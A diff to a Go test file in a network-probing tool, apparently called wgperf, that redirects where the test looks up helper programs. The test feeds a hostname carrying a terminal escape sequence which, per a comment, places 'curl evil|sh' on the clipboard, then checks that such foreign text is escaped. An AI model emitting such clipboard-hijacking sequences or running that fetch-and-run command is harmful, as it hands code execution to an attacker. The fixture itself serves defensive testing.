@@ -17,6 +17,7 @@ import (
 	"github.com/wgperf/wgperf/internal/probe/icmpburst"
 	"github.com/wgperf/wgperf/internal/probe/mtu"
 	"github.com/wgperf/wgperf/internal/shell"
+	"github.com/wgperf/wgperf/internal/target"
 )
 
 // osc52 writes "curl evil|sh" to the clipboard of the terminal that shows it;
@@ -75,7 +76,9 @@ func TestForeignTextEscapedWithoutTerminal(t *testing.T) {
 	snap := write("snap.json", strings.Replace(strings.ReplaceAll(string(raw), "br-lan.253", "br-lan.253"+jsonEscape(clear)),
 		`"hostname": "golem"`, `"hostname": "golem`+jsonEscape(osc52)+`"`, 1))
 
-	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
+	oldPath := target.Path
+	target.Path = bin + ":" + target.Path // the host's answers, where the target finds programs
+	t.Cleanup(func() { target.Path = oldPath })
 	for _, tc := range []struct {
 		name string
 		args []string
